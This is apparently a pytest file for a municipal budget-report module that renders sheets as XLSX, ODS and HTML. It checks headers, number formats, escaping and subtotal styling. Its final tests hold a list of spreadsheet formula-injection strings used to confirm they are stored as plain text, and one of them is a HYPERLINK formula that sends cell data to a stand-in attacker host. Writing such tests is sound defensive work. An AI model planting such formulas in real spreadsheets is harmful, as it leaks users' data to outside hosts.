"""The three renderings of a Sheet read back to the same numbers, typed as numbers, with the header."""

from __future__ import annotations

import datetime as dt
import io
import re
import zipfile

import openpyxl
from odf.opendocument import load as load_ods
from odf.table import TableCell, TableRow
from odf.text import P

from tenant_app.reports import html, ods, xlsx
from tenant_app.reports.sheet import Column, ColumnKind, ReportHeader, Sheet, Subtotal

PRINTED = dt.datetime(2026, 3, 31, 17, 5, tzinfo=dt.UTC)  # 2026-04-01 01:05 in Taipei
COLUMNS = (
    Column("name", "名稱", "Name"),
    Column("amount", "金額", "Amount", ColumnKind.MONEY),
    Column("rate", "執行率", "Rate", ColumnKind.RATE),
    Column("day", "日期", "Date", ColumnKind.DATE),
)
ROWS = [
    ("辦公費 <A&B>", 1_234_567, 0.5, dt.date(2026, 3, 1)),
    ("郵電費", 89_000_000_123, None, dt.date(2026, 3, 2)),
    ("退款", -4_500, 0.0125, None),
]
TOTAL = sum(r[1] for r in ROWS)


def _sheet() -> Sheet:
    header = ReportHeader("基隆市", "歲出預算執行表", "Budget execution", 2026, 3, PRINTED, "基隆市政府")
    return Sheet(header, COLUMNS, list(ROWS), ("合計", TOTAL, None, None), ["附註"])


def test_header_has_county_roc_and_gregorian_year_period_and_local_print_time() -> None:
    lines = _sheet().header.lines()
    assert lines[0] == "基隆市 歲出預算執行表　基隆市政府"
    assert "民國115年度（2026）" in lines[1] and "第3期" in lines[1]
    # The print time is Taipei's: already 1 April there.
    assert lines[2] == "列印時間：115/04/01 01:05（2026-04-01 01:05 臺北時間）"


def test_year_end_period_is_named() -> None:
    header = ReportHeader("基隆市", "t", "t", 2026, 13, PRINTED)
    assert "年度調整期" in header.period_text()


def test_xlsx_reads_back_as_numbers_with_formats() -> None:
    buf = io.BytesIO()
    xlsx.write(_sheet(), buf)
    buf.seek(0)
    ws = openpyxl.load_workbook(buf).active
    assert ws is not None
    values = list(ws.iter_rows(values_only=True))
    assert values[0][0] == "基隆市 歲出預算執行表　基隆市政府"
    assert values[3] == ("名稱", "金額", "執行率", "日期")
    body = values[4:7]
    assert [r[1] for r in body] == [r[1] for r in ROWS]
    assert [r[2] for r in body] == [r[2] for r in ROWS]
    assert values[7][:2] == ("合計", TOTAL)
    money = ws.cell(row=5, column=2)
    assert money.number_format == "#,##0" and money.alignment.horizontal == "right"
    assert ws.cell(row=5, column=3).number_format == "0.00%"
    assert ws.cell(row=5, column=4).value == dt.datetime(2026, 3, 1)


def _ods_rows(buf: io.BytesIO) -> list[list[TableCell]]:
    buf.seek(0)
    doc = load_ods(buf)
    return [row.getElementsByType(TableCell) for row in doc.spreadsheet.getElementsByType(TableRow)]


def test_ods_is_a_valid_package_that_odfpy_reads_back_as_numbers() -> None:
    buf = io.BytesIO()
    ods.write(_sheet(), buf)
    with zipfile.ZipFile(io.BytesIO(buf.getvalue())) as zf:
        first = zf.infolist()[0]
        assert first.filename == "mimetype" and first.compress_type == zipfile.ZIP_STORED
        assert zf.read("mimetype") == b"application/vnd.oasis.opendocument.spreadsheet"
    rows = _ods_rows(buf)
    assert str(rows[0][0]) == "基隆市 歲出預算執行表　基隆市政府"
    assert "民國115年度（2026）" in str(rows[1][0])
    body = rows[4:7]
    assert [c[0].getAttribute("valuetype") for c in body] == ["string"] * 3
    assert str(body[0][0]) == "辦公費 <A&B>"
    assert [int(c[1].getAttribute("value")) for c in body] == [r[1] for r in ROWS]
    assert [c[1].getAttribute("valuetype") for c in body] == ["float"] * 3
    assert str(body[1][1]) == "89,000,000,123"  # the shown text has thousands separators
    assert float(body[0][2].getAttribute("value")) == 0.5
    assert body[0][2].getAttribute("valuetype") == "percentage"
    assert body[0][3].getAttribute("datevalue") == "2026-03-01"
    assert int(rows[7][1].getAttribute("value")) == TOTAL


def _shown(paragraph: P) -> str:
    """The text an ODF reader shows for a text:p (ODF 1.2 part 1, 6.1.2 white-space processing):
    runs of space, tab, CR and LF in character data collapse to one space, and a paragraph's
    leading space goes; only <text:s/>, <text:tab/> and <text:line-break/> survive as themselves."""
    shown = ""
    for node in paragraph.childNodes:
        if node.nodeType == node.TEXT_NODE:
            collapsed = re.sub(r"[ \t\r\n]+", " ", str(node.data))
            if not shown or shown.endswith(" "):
                collapsed = collapsed.lstrip(" ")
            shown += collapsed
        elif node.qname[1] == "s":
            shown += " " * int(node.getAttribute("c") or 1)
        elif node.qname[1] == "tab":
            shown += "\t"
        elif node.qname[1] == "line-break":
            shown += "\n"
    return shown


def test_ods_keeps_tabs_line_breaks_and_runs_of_spaces_that_text_p_would_collapse() -> None:
    texts = ["a  b", "  lead", "trail ", "x\ny", "a   b  c", "plain"]
    sheet = Sheet(_sheet().header, (Column("t", "摘要", "Text"),), [(t,) for t in texts])
    buf = io.BytesIO()
    ods.write(sheet, buf)
    shown = [_shown(row[0].getElementsByType(P)[0]) for row in _ods_rows(buf)[4:]]
    assert shown == texts


def test_html_shows_separators_right_aligned_and_escapes_text() -> None:
    page = html.render(_sheet())
    assert "辦公費 &lt;A&amp;B&gt;" in page
    cells = re.findall(r'<td class="num" style="text-align:right" data-value="(-?\d+)">([\d,-]+)</td>', page)
    assert [int(raw) for raw, _ in cells] == [r[1] for r in ROWS]
    assert [text for _, text in cells] == ["1,234,567", "89,000,000,123", "-4,500"]
    assert f'data-value="{TOTAL}">{TOTAL:,}</th>' in page
    assert "50.00%" in page and "1.25%" in page
    assert "115/03/01" in page  # dates in ROC form on screen


def test_rows_may_be_a_one_pass_stream() -> None:
    """A database cursor can be read once: both writers must consume rows in a single pass."""
    for write in (xlsx.write, ods.write):
        sheet = _sheet()
        sheet.rows = iter(ROWS)
        buf = io.BytesIO()
        write(sheet, buf)
        buf.seek(0)
        if write is xlsx.write:
            ws = openpyxl.load_workbook(buf).active
            assert ws is not None
            amounts = [r[1] for r in ws.iter_rows(min_row=5, max_row=7, values_only=True)]
        else:
            amounts = [int(c[1].getAttribute("value")) for c in _ods_rows(buf)[4:7]]
        assert amounts == [r[1] for r in ROWS]


def test_subtotal_rows_are_bold_in_every_format() -> None:
    sheet = _sheet()
    sheet.rows = [ROWS[0], Subtotal(("小計", 1_234_567, None, None)), ROWS[1]]
    page = html.render(sheet)
    assert '<tr class="subtotal" style="font-weight:bold">' in page
    buf = io.BytesIO()
    xlsx.write(sheet, buf)
    buf.seek(0)
    ws = openpyxl.load_workbook(buf).active
    assert ws is not None
    assert ws.cell(row=6, column=2).font.b and not ws.cell(row=5, column=2).font.b
    assert ws.cell(row=6, column=2).value == 1_234_567
    buf = io.BytesIO()
    ods.write(sheet, buf)
    cells = _ods_rows(buf)[5]
    assert cells[1].getAttribute("stylename") == "money_b"
    assert int(cells[1].getAttribute("value")) == 1_234_567


# Text a spreadsheet would evaluate (issue 14, item 4): each comes back as the same plain text.
HOSTILE = [
    '=HYPERLINK("http://evil.example/x?d="&F10,"明細")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "#REF!",
    "=1",
]


def _hostile_sheet() -> Sheet:
    header = ReportHeader("=縣", "總分類帳", "Ledger", 2026, 3, PRINTED)
    rows = [(text, -(i + 1) * 1_000, 0.25, dt.date(2026, 3, 1)) for i, text in enumerate(HOSTILE)]
    return Sheet(header, COLUMNS, rows, ("合計", -28_000, None, None), ["=2*3"])


def test_xlsx_writes_formula_like_text_as_plain_strings_and_numbers_as_numbers() -> None:
    buf = io.BytesIO()
    xlsx.write(_hostile_sheet(), buf)
    with zipfile.ZipFile(io.BytesIO(buf.getvalue())) as zf:
        sheet_xml = zf.read("xl/worksheets/sheet1.xml").decode("utf-8")
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml  # no formula element anywhere
    buf.seek(0)
    ws = openpyxl.load_workbook(buf).active
    assert ws is not None
    assert [c.data_type for row in ws.iter_rows() for c in row if c.value is not None].count("f") == 0
    assert ws.cell(row=1, column=1).value == "=縣 總分類帳"
    body = list(ws.iter_rows(min_row=5, max_row=4 + len(HOSTILE)))
    assert [r[0].value for r in body] == HOSTILE  # the visible text is the user's, unchanged
    assert all(r[0].data_type == "s" and r[0].quotePrefix for r in body)
    assert [r[1].value for r in body] == [-(i + 1) * 1_000 for i in range(len(HOSTILE))]
    assert all(r[1].data_type == "n" and r[2].data_type == "n" for r in body)
    assert ws.cell(row=5 + len(HOSTILE), column=2).value == -28_000
    assert ws.cell(row=6 + len(HOSTILE), column=1).value == "=2*3"


def test_ods_writes_formula_like_text_as_string_cells() -> None:
    buf = io.BytesIO()
    ods.write(_hostile_sheet(), buf)
    with zipfile.ZipFile(io.BytesIO(buf.getvalue())) as zf:
        content = zf.read("content.xml").decode("utf-8")
    assert "table:formula" not in content
    rows = _ods_rows(buf)
    body = rows[4 : 4 + len(HOSTILE)]
    assert [c[0].getAttribute("valuetype") for c in body] == ["string"] * len(HOSTILE)
    # The shown text is the stored text, the leading tab included (written as <text:tab/>).
    assert [_shown(c[0].getElementsByType(P)[0]) for c in body] == HOSTILE
    assert [int(c[1].getAttribute("value")) for c in body] == [-(i + 1) * 1_000 for i in range(len(HOSTILE))]
    assert [c[1].getAttribute("valuetype") for c in body] == ["float"] * len(HOSTILE)
